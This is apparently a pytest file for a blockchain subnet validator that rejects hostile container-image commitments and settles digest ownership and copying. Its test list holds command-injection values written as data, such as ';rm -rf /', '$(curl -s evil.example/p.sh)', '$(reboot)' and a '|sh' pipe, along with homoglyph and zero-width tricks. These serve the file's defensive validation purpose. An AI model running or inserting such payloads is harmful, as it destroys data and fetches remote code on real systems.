"""Scanning untrusted commitments: rejections with one-line reasons, digest ownership, copies."""

from __future__ import annotations

import sqlite3

import pytest

from subnet.chain import commitments as cm
from subnet.chain.base import RawCommitment
from subnet.chain.bittensor_chain import raw_field_bytes
from subnet.chain.commitments import scan_commitments
from subnet.state.first_seen import FirstSeenStore, MemoryFirstSeen, Owner
from subnet.config import Settings

from .conftest import DIGEST_A, DIGEST_B, NETUID

GOOD = f"ghcr.io/acme/miner:v1@{DIGEST_A}"
FULL_WIDTH_HEX = "\uff41" * 8 + "a" * 56  # looks like 64 hex digits, fits in 128 bytes


def raw(data, uid=1, hotkey="5Hk", block=100) -> RawCommitment:
    return RawCommitment(hotkey, uid, block, data if isinstance(data, bytes) else data.encode("utf-8"))


HOSTILE = [
    # (commitment bytes, kind)
    (f"x/y@{DIGEST_A};rm -rf /".encode(), cm.HOSTILE),
    (b"$(curl -s evil.example/p.sh)", cm.HOSTILE),
    (f"x/y@{DIGEST_A}$(reboot)".encode(), cm.HOSTILE),
    (f"`id`x/y@{DIGEST_A}".encode(), cm.HOSTILE),
    (f'"x/y@{DIGEST_A}"'.encode(), cm.HOSTILE),
    (f"'x/y@{DIGEST_A}'".encode(), cm.HOSTILE),
    (f"x/y@{DIGEST_A}\nrm -rf /".encode(), cm.HOSTILE),
    (f"x/y@{DIGEST_A}\r".encode(), cm.HOSTILE),
    (f"x/y@{DIGEST_A}\x00".encode(), cm.HOSTILE),
    (f"x/y|sh@{DIGEST_A}".encode(), cm.HOSTILE),
    (f"ghcr.io/\u0430cme/m@{DIGEST_A}".encode(), cm.ENCODING),  # Cyrillic a
    (f"ghcr.io/acme/m@sha256:{FULL_WIDTH_HEX}".encode(), cm.ENCODING),  # full-width a
    (f"ghcr.io/acme/m\u200b@{DIGEST_A}".encode(), cm.ENCODING),  # zero-width space
    (b"\xff\xfeghcr.io/acme/m", cm.ENCODING),  # not UTF-8
    (("r.io/" + "a" * 120 + f"@{DIGEST_A}").encode(), cm.OVERSIZED),
    (b"ghcr.io/acme/miner:latest", cm.TAG_ONLY),
    (b"ghcr.io/acme/miner", cm.TAG_ONLY),
    (f"ghcr.io/acme/miner@sha256:{'A' * 64}".encode(), cm.MALFORMED),
    (f"ghcr.io/Acme/miner@{DIGEST_A}".encode(), cm.MALFORMED),
    (f"--privileged@{DIGEST_A}".encode(), cm.MALFORMED),
    (f"x/../y@{DIGEST_A}".encode(), cm.MALFORMED),
    (b"", cm.EMPTY),
]


@pytest.mark.parametrize("data,kind", HOSTILE, ids=[repr(d[:24]) for d, _ in HOSTILE])
def test_untrusted_commitments_are_rejected_with_a_one_line_reason(data, kind):
    scan = scan_commitments([raw(data, uid=4, hotkey="5Bad")])
    assert scan.accepted == [] and scan.copies == []
    (rejection,) = scan.rejected
    assert (rejection.hotkey, rejection.uid, rejection.kind) == ("5Bad", 4, kind)
    assert rejection.reason and rejection.reason.isprintable() and rejection.reason.isascii()
    assert "\n" not in rejection.reason and "\r" not in rejection.reason


def test_reasons_say_what_is_wrong():
    reasons = {
        r.hotkey: r.reason
        for r in scan_commitments(
            [
                raw(b"ghcr.io/acme/m:latest", hotkey="tag"),
                raw(b"\xff", hotkey="bytes"),
                raw(b"a" * 129, hotkey="big"),
                raw(GOOD, uid=None, hotkey="gone"),
                raw(f"x/y@{DIGEST_A};rm -rf /", hotkey="shell"),
            ]
        ).rejected
    }
    assert reasons["tag"].startswith("no digest")
    assert reasons["bytes"] == "not UTF-8"
    assert reasons["big"].startswith("129 bytes")
    assert "not registered" in reasons["gone"]
    assert "forbidden characters" in reasons["shell"] and ";" in reasons["shell"]


def test_a_valid_reference_from_a_registered_hotkey_is_accepted():
    (accepted,) = scan_commitments([raw(GOOD, uid=3, hotkey="5Good", block=120)]).accepted
    assert (accepted.uid, accepted.hotkey, accepted.block) == (3, "5Good", 120)
    assert accepted.image.digest == DIGEST_A and accepted.image.registry == "ghcr.io"
    assert accepted.image.pinned == f"ghcr.io/acme/miner@{DIGEST_A}"


def test_the_earliest_committer_owns_a_digest_and_later_ones_are_copies():
    scan = scan_commitments(
        [
            raw(f"copycat.io/them/m@{DIGEST_A}", uid=1, hotkey="5Copier", block=200),
            raw(GOOD, uid=3, hotkey="5Author", block=100),
            raw(f"ghcr.io/other/m@{DIGEST_B}", uid=2, hotkey="5Other", block=150),
        ]
    )
    assert [(c.uid, c.hotkey) for c in scan.accepted] == [(2, "5Other"), (3, "5Author")]
    (copy,) = scan.copies
    assert (copy.uid, copy.hotkey, copy.fault) == (1, "5Copier", "copy")
    assert (copy.owner_hotkey, copy.owner_block) == ("5Author", 100)
    assert "5Author" in copy.reason and "\n" not in copy.reason


def test_a_same_block_tie_is_owned_by_nobody_whatever_the_input_order():
    for order in (1, -1):
        entries = [raw(GOOD, uid=9, hotkey="5High", block=100), raw(GOOD, uid=2, hotkey="5Low", block=100)][::order]
        scan = scan_commitments(entries)
        assert scan.accepted == []
        assert [(c.hotkey, c.basis) for c in scan.copies] == [("5Low", "tie"), ("5High", "tie")]
        assert "nobody owns it" in scan.copies[0].reason


def test_the_image_label_decides_ownership_over_first_seen():
    # A mempool watcher front-runs the author's commitment with the author's own digest.
    entries = [raw(GOOD, uid=9, hotkey="5Watcher", block=99), raw(GOOD, uid=2, hotkey="5Author", block=100)]
    scan = scan_commitments(entries, image_owners={DIGEST_A: "5Author"})
    assert [c.hotkey for c in scan.accepted] == ["5Author"]
    (copy,) = scan.copies
    assert (copy.hotkey, copy.basis, copy.owner_hotkey) == ("5Watcher", "label", "5Author")
    assert "labelled for hotkey 5Author" in copy.reason
    # A label that names nobody committing the digest: every committer is a copy.
    alone = scan_commitments([raw(GOOD, uid=9, hotkey="5Watcher", block=99)], image_owners={DIGEST_A: "5Author"})
    assert alone.accepted == [] and [c.hotkey for c in alone.copies] == ["5Watcher"]


def test_first_seen_survives_the_owner_moving_on(tmp_path):
    store = FirstSeenStore(tmp_path / "state.sqlite")
    scan_commitments([raw(GOOD, uid=3, hotkey="5Author", block=100), raw(GOOD, uid=1, hotkey="5Copier", block=200)], store)

    # The author has since committed another image; the chain no longer shows who was first.
    later = [raw(f"ghcr.io/acme/next@{DIGEST_B}", uid=3, hotkey="5Author", block=300), raw(GOOD, uid=1, hotkey="5Copier", block=200)]
    remembered = scan_commitments(later, FirstSeenStore(tmp_path / "state.sqlite"))
    assert [c.hotkey for c in remembered.copies] == ["5Copier"]
    assert remembered.copies[0].owner_hotkey == "5Author"
    # Without the store the copier would be taken for the author.
    assert [c.hotkey for c in scan_commitments(later).accepted] == ["5Copier", "5Author"]  # by uid


def test_only_strictly_earlier_chain_evidence_replaces_a_recorded_owner(tmp_path):
    store = FirstSeenStore(tmp_path / "s.sqlite")
    assert store.claim(DIGEST_A, "5Late", 500) == Owner(DIGEST_A, "5Late", 500)
    assert store.claim(DIGEST_A, "5Same", 500) == Owner(DIGEST_A, "5Late", 500)
    assert store.claim(DIGEST_A, "5Early", 300) == Owner(DIGEST_A, "5Early", 300)
    assert store.owner(DIGEST_A) == Owner(DIGEST_A, "5Early", 300)
    assert store.owner(DIGEST_B) is None
    memory = MemoryFirstSeen()
    assert memory.claim(DIGEST_A, "5Late", 500).hotkey == "5Late"
    assert memory.claim(DIGEST_A, "5Early", 300).hotkey == "5Early"


def test_the_store_lives_in_the_project_sqlite_file(tmp_path, monkeypatch):
    monkeypatch.setenv("SUBNET_HOME", str(tmp_path))
    with FirstSeenStore.from_settings() as store:
        store.claim(DIGEST_A, "5Author", 100)
    assert store.path == Settings().store_path == tmp_path / "state.sqlite"
    rows = sqlite3.connect(tmp_path / "state.sqlite").execute("SELECT digest, hotkey, block FROM first_seen").fetchall()
    assert rows == [(DIGEST_A, "5Author", 100)]


def test_unregistered_hotkeys_never_claim_a_digest(tmp_path):
    store = FirstSeenStore(tmp_path / "s.sqlite")
    scan = scan_commitments([raw(GOOD, uid=None, hotkey="5Gone", block=1), raw(GOOD, uid=2, hotkey="5Real", block=50)], store)
    assert [c.hotkey for c in scan.accepted] == ["5Real"]
    assert store.owner(DIGEST_A).hotkey == "5Real"


def test_only_raw_fields_carry_plaintext():
    assert raw_field_bytes([{"Raw3": "0x616263"}, {"Raw2": "0x6465"}]) == b"abcde"
    assert raw_field_bytes([{"TimelockEncrypted": {"encrypted": "0x00", "reveal_round": 5}}]) == b""
    assert raw_field_bytes([{"Sha256": "0x" + "00" * 32}, "ResetBondsFlag"]) == b""


def test_commitments_read_through_the_sdk_scan_end_to_end(node, wallets, make_chain, tmp_path):
    """Stand-in node → real SDK → adapter → scan: hostile, copied and honest commitments."""
    for hk in ("5Author", "5Copier", "5Shell", "5Bytes", "5Tag"):
        node.register(NETUID, hk)
    node.put_commitment(NETUID, "5Author", GOOD.encode(), block=100)
    node.put_commitment(NETUID, "5Copier", GOOD.encode(), block=200)
    node.put_commitment(NETUID, "5Shell", f"x/y@{DIGEST_B};rm -rf /".encode(), block=110)
    node.put_commitment(NETUID, "5Bytes", b"\xc3\x28 bad utf8", block=120)
    node.put_commitment(NETUID, "5Tag", b"ghcr.io/acme/m:latest", block=130)
    node.put_commitment(NETUID, "5Gone", GOOD.encode(), block=50)  # deregistered: no uid

    scan = scan_commitments(make_chain(wallets["validator"]).commitments(NETUID), FirstSeenStore(tmp_path / "s.sqlite"))

    assert [(c.uid, c.hotkey, c.block, str(c.image)) for c in scan.accepted] == [(1, "5Author", 100, GOOD)]
    assert [(c.uid, c.hotkey, c.owner_hotkey) for c in scan.copies] == [(2, "5Copier", "5Author")]  # uid 0: the owner
    assert {(r.hotkey, r.kind) for r in scan.rejected} == {
        ("5Shell", cm.HOSTILE), ("5Bytes", cm.ENCODING), ("5Tag", cm.TAG_ONLY), ("5Gone", cm.UNREGISTERED),
    }
